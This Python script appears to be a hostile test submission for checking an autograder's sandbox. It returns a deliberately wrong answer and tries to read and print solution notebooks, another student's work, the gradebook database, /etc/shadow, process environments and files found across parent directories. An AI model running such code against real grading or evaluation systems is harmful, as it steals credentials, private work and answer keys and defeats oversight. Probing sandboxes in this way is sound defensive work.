"""Reads the solutions, the gradebook, the plan, other students, HOME, the system and the parents; shows it all."""

import glob, os, re, sqlite3


def add(a, b):
    return -1


scratch = os.getcwd()
roots = [
    "__COURSE__",
    "__COURSE__/home",
    "/tmp",
    "/root",
    "/home",
    "/etc",
    "/proc/self/root/etc",
    "/proc/1/root/etc",
]
roots += [
    os.path.dirname(scratch),
    os.path.join(scratch, ".."),
    os.path.join(scratch, "../.."),
    "/proc/self/cwd/..",
]
files = [
    "/etc/passwd",
    "/etc/shadow",
    "__COURSE__/output/gradebook.db",
    "__COURSE__/solutions/hostile/hostile.ipynb",
]
files += ["__COURSE__/submitted/ada/hostile/hostile.ipynb", "__COURSE__/home/secret.txt"]
files += [f"{scratch}/../../plan.json", f"{scratch}/../../results.jsonl", f"{scratch}/../judge/x"]
for pid in ["1", str(os.getppid()), str(os.getpid() + 1), str(os.getpid() - 1)]:
    files += [
        f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "mem", "maps", "fd/0", "root/etc/passwd")
    ]
for root in roots:
    try:
        print("BREACH", root, os.listdir(root))
    except OSError:
        pass
    if not root.startswith(("/tmp", "/proc")):
        files += glob.glob(f"{root}/**/*", recursive=True)
for name in files:
    try:
        with open(name, "rb") as file:
            print("BREACH", name, file.read(10**6))
    except OSError:
        pass
try:
    print(
        "BREACH",
        sqlite3.connect("file:__COURSE__/output/gradebook.db?immutable=1", uri=True)
        .execute("select * from grade")
        .fetchall(),
    )
except sqlite3.Error:
    pass
